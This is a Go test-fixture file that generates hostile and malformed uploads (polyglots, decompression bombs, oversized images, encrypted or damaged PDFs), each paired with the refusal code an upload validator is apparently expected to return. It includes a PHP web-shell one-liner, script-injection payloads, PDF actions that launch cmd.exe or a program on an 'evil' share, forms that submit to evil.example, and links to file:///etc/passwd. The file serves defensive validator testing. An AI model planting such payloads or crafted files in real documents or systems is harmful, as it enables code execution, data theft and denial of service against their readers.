package hostile

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
	"strings"
	"testing"
)

// File is a file that must not come in as it is, with the code of the refusal.
type File struct {
	What    string // in words, unique
	Content []byte
	Code    string
}

// Files gives all of them; they are some hundred, and together about 20 MB.
func Files(tb testing.TB) []File {
	tb.Helper()
	var all []File
	for _, family := range []func(testing.TB) []File{cutOff, wrongTypes, twoThings, bombs, measures, carrying, closed} {
		all = append(all, family(tb)...)
	}
	return all
}

// Acting gives documents that do something when they are opened or clicked on, at each place at which a reader looks for it; without it they are honest, and may be
// taken so. Code is what refuses them as they are.
func Acting(tb testing.TB) []File {
	tb.Helper()
	return append(acting(tb), links(tb)...)
}

// cutOff: an upload that broke off, at many places.
func cutOff(tb testing.TB) []File {
	tb.Helper()
	var files []File
	for _, whole := range []struct {
		name    string
		content []byte
	}{
		{"PDF", PDF("", "")}, {"packed PDF", PackedPDF(tb, "", "<< >>", 2000)}, {"JPEG", JPEG(tb, 300, 200)}, {"PNG", PNG(tb, 300, 200)},
	} {
		// A JPEG of which only the mark of its kind is left, or a PNG of its first bytes, are files of no kind; what begins them is longer than a twentieth.
		for part := 10; part <= 90; part += 8 {
			files = append(files, File{fmt.Sprintf("%s cut at %d %%", whole.name, part), whole.content[:len(whole.content)*part/100], "document.truncated"})
		}
	}
	jpg, pngFile := JPEG(tb, 64, 64), PNG(tb, 64, 64)
	files = append(files, File{"JPEG cut in its last bytes", jpg[:len(jpg)-20], "document.truncated"}, File{"JPEG cut in its head", jpg[:100], "document.truncated"},
		File{"PNG without its end", pngFile[:len(pngFile)-12], "document.truncated"}, File{"PNG cut in its data", pngFile[:50], "document.truncated"},
		File{"PNG of its head alone", pngFile[:8], "document.truncated"})
	files = append(files, File{"nothing", nil, "document.empty"}, File{"one zero byte", []byte{0}, "document.type-not-allowed"},
		File{"zero bytes", make([]byte, 5000), "document.type-not-allowed"}, File{"PDF of its head alone", []byte("%PDF-1.7\n%%EOF\n"), "document.damaged"},
		File{"larger than is taken", bytes.Repeat([]byte("x"), 15<<20+1), "document.too-large"})
	return files
}

// payloads are what somebody hides beside a document.
func payloads(tb testing.TB) []File {
	tb.Helper()
	return []File{
		{"PHP", []byte("<?php system($_GET[0]);"), "document.script"},
		{"HTML", []byte("<html><body onload=alert(1)></html>"), "document.script"},
		{"a web page", []byte("<!DOCTYPE html><p>x"), "document.script"},
		{"a script of a page", []byte("<script>alert(1)</script>"), "document.script"},
		{"a shell script", []byte("#!/bin/sh\nid\n"), "document.script"},
		{"a program for Windows", append([]byte("MZ\x90\x00"), make([]byte, 300)...), "document.script"},
		{"a program for Linux", append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 100)...), "document.script"},
		{"a ZIP archive", ZIP(tb, "a.exe"), "document.archive"},
		{"a Java archive", ZIP(tb, "META-INF/MANIFEST.MF", "a.class"), "document.script"},
		{"a RAR archive", []byte("Rar!\x1a\x07\x01\x00abcdefgh"), "document.archive"},
		{"a 7z archive", []byte("7z\xbc\xaf\x27\x1c\x00\x04abcdefgh"), "document.archive"},
	}
}

func wrongTypes(tb testing.TB) []File {
	tb.Helper()
	files := []File{
		{"plain text", []byte("Sehr geehrte Damen und Herren"), "document.type-not-allowed"},
		{"the test virus of EICAR", []byte(strings.Join([]string{`X5O!P%@AP[4\PZX54(P^)7CC)7}$`, "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"}, "")), "document.type-not-allowed"},
		{"GIF", []byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;"), "document.type-not-allowed"},
		{"BMP", append([]byte("BM\x46\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00\x28\x00\x00\x00"), make([]byte, 60)...), "document.type-not-allowed"},
		{"TIFF", append([]byte("II*\x00\x08\x00\x00\x00"), make([]byte, 60)...), "document.type-not-allowed"},
		{"WebP", append([]byte("RIFF\x24\x00\x00\x00WEBPVP8 "), make([]byte, 30)...), "document.type-not-allowed"},
		{"MP4", append([]byte("\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom"), make([]byte, 30)...), "document.type-not-allowed"},
		{"MP3", append([]byte("ID3\x03\x00\x00\x00\x00\x00\x00"), make([]byte, 30)...), "document.type-not-allowed"},
		{"JSON", []byte(`{"a": 1}`), "document.type-not-allowed"},
		{"XML", []byte(`<?xml version="1.0"?><a/>`), "document.type-not-allowed"},
		{"mail", []byte("From: a@musterstadt.example\r\nTo: b@musterstadt.example\r\nSubject: x\r\n\r\nx"), "document.type-not-allowed"},
		{"PostScript", []byte("%!PS-Adobe-3.0\n(x) print\n"), "document.type-not-allowed"},
		{"SQLite", append([]byte("SQLite format 3\x00"), make([]byte, 100)...), "document.type-not-allowed"},
		{"moving PNG", pngWith(PNG(tb, 8, 8), "acTL", make([]byte, 8)), "document.type-not-allowed"},
		{"HEIC", []byte("\x00\x00\x00\x18ftypheic\x00\x00\x00\x00heicmif1"), "document.heic"},
		{"HEIF", []byte("\x00\x00\x00\x18ftypmif1\x00\x00\x00\x00mif1heic"), "document.heic"},
		{"TAR", TAR(tb), "document.archive"},
		{"GZIP", []byte("\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03"), "document.archive"},
		{"BZIP2", []byte("BZh91AY&SY\x00\x00"), "document.archive"},
		{"XZ", []byte("\xfd7zXZ\x00\x00\x04"), "document.archive"},
		{"ZSTD", []byte("\x28\xb5\x2f\xfd\x04\x00\x00"), "document.archive"},
		{"cabinet", append([]byte("MSCF\x00\x00\x00\x00"), make([]byte, 60)...), "document.archive"},
		{"Word", ZIP(tb, "[Content_Types].xml", "_rels/.rels", "word/document.xml"), "document.office"},
		{"Excel", ZIP(tb, "[Content_Types].xml", "_rels/.rels", "xl/workbook.xml"), "document.office"},
		{"PowerPoint", ZIP(tb, "[Content_Types].xml", "_rels/.rels", "ppt/presentation.xml"), "document.office"},
		{"old Word", append([]byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1}, make([]byte, 600)...), "document.office"},
		{"RTF", []byte(`{\rtf1\ansi x}`), "document.office"},
		{"SVG", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="1"/>`), "document.script"},
		{"Python", []byte("#!/usr/bin/env python3\nprint(1)\n"), "document.script"},
		{"Java class", []byte("\xca\xfe\xba\xbe\x00\x00\x00\x41\x00\x10"), "document.script"},
		{"WebAssembly", []byte("\x00asm\x01\x00\x00\x00"), "document.script"},
	}
	return append(files, payloads(tb)...)
}

// twoThings: polyglots. What a checker takes for a picture, somebody else opens as what lies before it, within it or behind it.
func twoThings(tb testing.TB) []File {
	tb.Helper()
	var files []File
	for _, p := range payloads(tb) {
		for _, whole := range []struct {
			name    string
			content []byte
		}{{"PDF", PDF("", "")}, {"JPEG", JPEG(tb, 60, 40)}, {"PNG", PNG(tb, 60, 40)}} {
			files = append(files, File{whole.name + " with " + p.What + " behind it", join(whole.content, p.Content), p.Code})
			files = append(files, File{whole.name + " with " + p.What + " behind it, after blanks", join(whole.content, []byte("\r\n\x00\x00 "), p.Content), p.Code})
		}
		if strings.HasPrefix(string(p.Content), "<") {
			files = append(files,
				File{"JPEG with " + p.What + " as its comment", jpegWith(JPEG(tb, 60, 40), p.Content), p.Code},
				File{"PNG with " + p.What + " as its text", pngWith(PNG(tb, 60, 40), "tEXt", join([]byte("Comment\x00"), p.Content)), p.Code})
		}
	}
	return append(files,
		File{"PDF behind PHP", join([]byte("<?php 1; ?>\n"), PDF("", "")), "document.script"},
		File{"PDF behind HTML", join([]byte("<html><!--"), PDF("", "")), "document.script"},
		File{"PDF behind the head of a GIF", join([]byte("GIF89a\x01\x00\x01\x00"), PDF("", "")), "document.damaged"},
		File{"PDF behind a program", join([]byte("MZ\x90\x00"), make([]byte, 200), PDF("", "")), "document.script"},
		File{"PDF behind an order to a printer", join([]byte("\x1b%-12345X@PJL JOB\r\n@PJL ENTER LANGUAGE=PDF\r\n"), PDF("", "")), "document.print-job"},
		File{"PDF behind a letter", join([]byte("Sehr geehrte Damen und Herren\n"), PDF("", "")), "document.damaged"})
}

// bombs are small and unpack to much, or are drawn for ever.
func bombs(tb testing.TB) []File {
	tb.Helper()
	blanks := func(size int64) []byte { return Deflate(tb, io.LimitReader(zeros{}, size)) }
	drawing := func(filters string, content []byte) []byte {
		return PDF("", "/Contents 4 0 R", Stream("/Filter "+filters, content))
	}
	picture := func(filters string, content []byte) []byte {
		return PDF("", "/Resources << /XObject << /a 4 0 R >> >>",
			Stream("/Type /XObject /Subtype /Image /Width 10 /Height 10 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter "+filters, content))
	}
	twice := Deflate(tb, bytes.NewReader(blanks(200<<20)))
	tree := []string{"<< /Type /Pages /Kids [3 0 R 3 0 R] /Count 2 /Parent 2 0 R >>"}
	return []File{
		{"PDF whose objects unpack to 100 MB", PackedPDF(tb, "", "<< >>", 100<<20), "document.bomb"},
		{"PDF whose objects unpack to 200 MB", PackedPDF(tb, "", "<< >>", 200<<20), "document.bomb"},
		{"PDF that draws 100 MB", drawing("/FlateDecode", blanks(100<<20)), "document.bomb"},
		{"PDF that draws 300 MB", drawing("[/FlateDecode]", blanks(300<<20)), "document.bomb"},
		{"PDF that draws what is packed twice", drawing("[/FlateDecode /FlateDecode]", twice), "document.bomb"},
		{"PDF that draws what was run-length packed", drawing("/RunLengthDecode", join(bytes.Repeat([]byte{129, 'x'}, 700_000), []byte{128})), "document.bomb"},
		{"PDF that draws what was packed, then run-length packed", drawing("[/FlateDecode /RunLengthDecode]", Deflate(tb, bytes.NewReader(bytes.Repeat([]byte{129, 'x'}, 700_000)))), "document.bomb"},
		{"PDF with a small picture of 500 MB", picture("/FlateDecode", blanks(500<<20)), "document.bomb"},
		{"PDF whose pages hang twice", PDF("", "", tree...), "document.bomb"},
		{"PDF nested ten thousand times", PDF("/X "+strings.Repeat("[", 10_000)+strings.Repeat("]", 10_000), ""), "document.damaged"},
		{"PDF of 10,000 pages", pages(10_000), "document.too-many-pages"},
		{"PDF of 1,001 pages", pages(1001), "document.too-many-pages"},
		{"PNG that unpacks to more than it says", pngOfData(tb, PNG(tb, 8, 8), blanks(100<<20)), "document.bomb"},
		{"PNG whose data is too short", pngOfData(tb, PNG(tb, 800, 800), blanks(100)), "document.truncated"},
		{"PNG with a packed text of 100 MB", pngWith(PNG(tb, 8, 8), "zTXt", join([]byte("Comment\x00\x00"), blanks(100<<20))), "document.bomb"},
		{"PNG with an international text of 100 MB", pngWith(PNG(tb, 8, 8), "iTXt", join([]byte("Comment\x00\x01\x00\x00\x00"), blanks(100<<20))), "document.bomb"},
		{"PNG with a profile of colours of 100 MB", pngWith(PNG(tb, 8, 8), "iCCP", join([]byte("p\x00\x00"), blanks(100<<20))), "document.bomb"},
		{"JPEG that is drawn a thousand times", jpegScans(tb, JPEG(tb, 60, 40), 1000), "document.bomb"},
	}
}

// measures: pictures whose head claims more than anybody can show.
func measures(tb testing.TB) []File {
	tb.Helper()
	var files []File
	for _, side := range []uint32{8000, 20_000, 30_000, 60_000} {
		files = append(files,
			File{fmt.Sprintf("PNG of %d x %d", side, side), ClaimPNGSize(PNG(tb, 8, 8), side, side), "document.too-many-pixels"},
			File{fmt.Sprintf("JPEG of %d x %d", side, side), ClaimJPEGSize(tb, JPEG(tb, 8, 8), uint16(side), uint16(side)), "document.too-many-pixels"})
		if side > 10_000 {
			files = append(files, File{fmt.Sprintf("PDF with a picture of %d x %d", side, side), PDF("", "/Resources << /XObject << /a 4 0 R >> >>",
				Stream(fmt.Sprintf("/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8", side, side), []byte("x"))), "document.too-many-pixels"})
		}
	}
	return append(files,
		File{"PNG of 2.5 gigapixels", ClaimPNGSize(PNG(tb, 64, 64), 50_000, 50_000), "document.too-many-pixels"},
		File{"PNG of no height", ClaimPNGSize(PNG(tb, 8, 8), 10, 0), "document.damaged"},
		File{"PNG of no width", ClaimPNGSize(PNG(tb, 8, 8), 0, 8), "document.damaged"},
		File{"PNG beyond all measure", ClaimPNGSize(PNG(tb, 8, 8), 0xFFFFFFF0, 0xFFFFFFF0), "document.too-many-pixels"})
}

// acting: documents that do something when they are opened, each at every place at which a reader looks for it.
func acting(tb testing.TB) []File {
	tb.Helper()
	var files []File
	for _, a := range []struct{ what, action, code string }{
		{"a script", `<< /S /JavaScript /JS (app.alert\(1\)) >>`, "document.javascript"},
		{"a script under a hidden name", `<< /S /Java#53cript /J#53 (1) >>`, "document.javascript"},
		{"a program", "<< /S /Launch /F (cmd.exe) >>", "document.launch"},
		{"a program on a share", `<< /S /Launch /F (\\\\evil\\a.exe) >>`, "document.launch"},
		{"a document on a share", `<< /S /GoToR /F (\\\\evil\\a.pdf) /D [0 /Fit] >>`, "document.active-content"},
		{"a document within", "<< /S /GoToE /T << /R /C /N (a) >> >>", "document.embedded-file"},
		{"a form that sends itself", "<< /S /SubmitForm /F (http://evil.example) >>", "document.active-content"},
		{"data from elsewhere", "<< /S /ImportData /F (a.fdf) >>", "document.active-content"},
		{"a film", "<< /S /Rendition /OP 0 >>", "document.active-content"},
		{"a sound", "<< /S /Sound /Sound 4 0 R >>", "document.active-content"},
	} {
		files = append(files,
			File{a.what + " at opening", PDF("/OpenAction "+a.action, ""), a.code},
			File{a.what + " at opening, in an object of its own", PDF("/OpenAction 4 0 R", "", a.action), a.code},
			File{a.what + " at opening, packed", PackedPDF(tb, "/OpenAction 4 0 R", a.action, 0), a.code},
			File{a.what + " when a page is shown", PDF("", "/AA << /O "+a.action+" >>"), a.code},
			File{a.what + " behind a click", PDF("", "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A "+a.action+" >>]"), a.code})
	}
	return append(files,
		File{"a web page at opening", PDF("/OpenAction << /S /URI /URI (https://evil.example) >>", ""), "document.active-content"},
		File{"a web page when a page is shown", PDF("", "/AA << /O << /S /URI /URI (https://evil.example) >> >>"), "document.active-content"},
		File{"a script in the names", PDF("/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", "", "<< /S /JavaScript /JS (1) >>"), "document.javascript"},
		File{"a script behind another action", PDF("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [4 0 R 4 0 R] >>", "", "<< /S /JavaScript /JS (1) >>"), "document.javascript"},
		File{"a script that no reference names", bytes.Replace(PDF("", ""), []byte("xref\n"), []byte("9 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\nxref\n"), 1), "document.javascript"},
		File{"a script that no reference names, between comments", bytes.Replace(PDF("", ""), []byte("xref\n"), []byte("9 0 obj %(\n<< /S /JavaScript %)\n/JS <31> >>\nendobj\nxref\n"), 1), "document.javascript"},
		File{"a script within a title", PDF("", "", "<< /Title (x\n9 0 obj << /S /JavaScript /JS <31> >> endobj\n) >>"), "document.javascript"},
		File{"a form field that sends itself", PDF("", "/Annots [<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A << /S /SubmitForm /F (http://evil.example) >> >>]"), "document.active-content"},
		File{"a form twice, once of XFA", PDF("/AcroForm << /Fields [5 0 R] /XFA [(a) 4 0 R] >>", "/Annots [5 0 R]", Stream("", []byte("<x/>")),
			"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Muster) /Rect [0 0 9 9] /P 3 0 R >>"), "document.active-content"},
		File{"a form that Adobe lets its readers fill", PDF("/Perms << /UR3 4 0 R >> /OpenAction << /S /JavaScript /JS (1) >>", "",
			"<< /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 1 2 3] /Contents <00> >>"), "document.javascript"})
}

// carrying: documents that have something within which is no page, and those whose code cannot be taken out.
func carrying(tb testing.TB) []File {
	tb.Helper()
	return []File{
		{"a file within", PDF("/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>", "", "<< /Type /Filespec /F (a) /EF << /F 5 0 R >> >>", Stream("/Type /EmbeddedFile", []byte("MZ"))), "document.embedded-file"},
		{"a file within that does not say so", PDF("/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>", "", "<< /F (a) /EF << /F 5 0 R >> >>", Stream("", []byte("MZ"))), "document.embedded-file"},
		{"a file within, and a script", PDF("/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >> /OpenAction << /S /JavaScript /JS (1) >>", "", "<< /F (a) /EF << /F 5 0 R >> >>", Stream("", []byte("MZ"))), "document.embedded-file"},
		{"a note with a file", PDF("", "/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>]"), "document.embedded-file"},
		{"a form of XFA without fields", PDF("/AcroForm << /Fields [] /XFA [(a) 4 0 R] >>", "", Stream("", []byte("<x/>"))), "document.dynamic-form"},
		{"a form of XFA that makes its own pages", PDF("/NeedsRendering true /AcroForm << /Fields [5 0 R] /XFA 4 0 R >>", "", Stream("", []byte("<x/>")), "<< /FT /Tx /T (name) >>"), "document.dynamic-form"},
		{"a signed form with a script", PDF("/AcroForm << /Fields [4 0 R] >> /OpenAction << /S /JavaScript /JS (1) >>", "", "<< /FT /Sig /T (a) /V 5 0 R >>",
			"<< /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 1 2 3] /Contents <00> >>"), "document.signed-code"},
		{"rich media", PDF("", "/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]"), "document.active-content"},
		{"a body in three dimensions", PDF("", "/Annots [<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] >>]"), "document.active-content"},
		{"a drawing that lies in another file", PDF("", "/Contents 4 0 R", Stream(`/F (\\\\evil\\a)`, nil)), "document.active-content"},
		{"a script, and a page that hangs twice", rebuilt(PDF("/OpenAction << /S /JavaScript /JS (1) >>", ""), "/Kids [3 0 R] /Count 1", "/Kids [3 0 R 3 0 R] /Count 2"), "document.bomb"},
		{"a script, and a page that draws 100 MB", PDF("/OpenAction << /S /JavaScript /JS (1) >>", "/Contents 4 0 R",
			Stream("/Filter /FlateDecode", Deflate(tb, io.LimitReader(zeros{}, 100<<20)))), "document.bomb"},
	}
}

// links: what a click may reach.
func links(tb testing.TB) []File {
	tb.Helper()
	var files []File
	for _, address := range []string{
		"javascript:alert(1)", "JavaScript:alert(1)", `java\nscript:alert(1)`, `\001javascript:alert(1)`, "evil.example:80x:1", "file:///etc/passwd", `\\\\evil\\share`, "//evil.example/share", "smb://evil.example/a", "vbscript:x",
		"data:text/html,x", "ms-word:ofe|u|http://evil.example/a.docx", "ldap://evil.example", "ftp://evil.example/a.exe", "search-ms:query=x",
	} {
		files = append(files, File{
			"a link to " + address,
			PDF("", "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI ("+address+") >> >>]"), "document.active-content",
		})
	}
	return files
}

// closed: nobody can read them, or not in the way that the file of a case has to be read.
func closed(tb testing.TB) []File {
	tb.Helper()
	return []File{
		{"PDF with a password", Encrypted(tb, "geheim"), "document.encrypted"},
		{"PDF with restrictions", Encrypted(tb, ""), "document.restricted"},
		{"PDF of rubbish", join([]byte("%PDF-1.7\n"), bytes.Repeat([]byte("<<[("), 500), []byte("\n%%EOF")), "document.damaged"},
		{"PDF without pages", bytes.Replace(PDF("", ""), []byte("/Count 1"), []byte("/Count 0"), 1), "document.damaged"},
		{"PDF that refers to nothing", bytes.Replace(PDF("", ""), []byte("/Root 1 0 R"), []byte("/Root 9 0 R"), 1), "document.damaged"},
		{"JPEG of rubbish", join([]byte("\xff\xd8\xff\xe0\x00\x02"), bytes.Repeat([]byte{1}, 50), []byte{0xFF, 0xD9}), "document.damaged"},
		{"PNG with a wrong checksum", flipped(PNG(tb, 60, 40)), "document.damaged"},
	}
}

type zeros struct{}

func (zeros) Read(p []byte) (int, error) {
	clear(p)
	return len(p), nil
}

func join(parts ...[]byte) []byte { return bytes.Join(parts, nil) }

func flipped(content []byte) []byte {
	out := bytes.Clone(content)
	out[len(out)-20] ^= 0x55
	return out
}

// pages writes a PDF of so many empty pages.
func pages(n int) []byte {
	kids := make([]string, n)
	objects := make([]string, n)
	for i := range n {
		kids[i] = fmt.Sprintf("%d 0 R", 4+i)
		objects[i] = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
	}
	whole := PDF("", "", objects...)
	// The table of cross references is read by its offsets, so the tree of pages is put where one of the same length stands.
	tree := fmt.Sprintf("<< /Type /Pages /Kids [%s] /Count %d >>", strings.Join(kids, " "), n)
	return rebuilt(whole, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", tree)
}

// rebuilt replaces an object of a PDF that PDF has written and moves the offsets behind it.
func rebuilt(content []byte, from, to string) []byte {
	at := bytes.Index(content, []byte(from))
	grown := len(to) - len(from)
	start := bytes.LastIndex(content, []byte("xref\n0 "))
	out := bytes.Replace(content[:start], []byte(from), []byte(to), 1)
	for _, line := range strings.SplitAfter(string(content[start:]), "\n") {
		var offset int
		switch {
		case strings.HasSuffix(line, " 00000 n \n"):
			if _, err := fmt.Sscanf(line, "%d", &offset); err == nil && offset > at {
				line = fmt.Sprintf("%010d 00000 n \n", offset+grown)
			}
		case strings.TrimSpace(line) == fmt.Sprint(bytes.LastIndex(content, []byte("xref\n0 "))):
			line = fmt.Sprintf("%d\n", start+grown)
		}
		out = append(out, line...)
	}
	return out
}

// jpegWith puts a comment behind the start of a JPEG.
func jpegWith(content, comment []byte) []byte {
	segment := binary.BigEndian.AppendUint16([]byte{0xFF, 0xFE}, uint16(len(comment)+2))
	return join(content[:2], segment, comment, content[2:])
}

// jpegScans repeats the run that draws the picture.
func jpegScans(tb testing.TB, content []byte, times int) []byte {
	tb.Helper()
	start := bytes.Index(content, []byte{0xFF, 0xDA})
	if start < 0 {
		tb.Fatal("a JPEG without a picture")
	}
	return join(content[:start], bytes.Repeat(content[start:len(content)-2], times), content[len(content)-2:])
}

// pngWith puts a chunk behind the head of a PNG.
func pngWith(content []byte, kind string, body []byte) []byte {
	const headEnd = 8 + 25
	return join(content[:headEnd], chunk(kind, body), content[headEnd:])
}

// pngOfData gives a PNG other data.
func pngOfData(tb testing.TB, content, data []byte) []byte {
	tb.Helper()
	at := bytes.Index(content, []byte("IDAT")) - 4
	if at < 0 {
		tb.Fatal("a PNG without data")
	}
	return join(content[:at], chunk("IDAT", data), chunk("IEND", nil))
}

func chunk(kind string, body []byte) []byte {
	out := binary.BigEndian.AppendUint32(nil, uint32(len(body)))
	out = append(append(out, kind...), body...)
	return binary.BigEndian.AppendUint32(out, crc32.ChecksumIEEE(out[4:]))
}
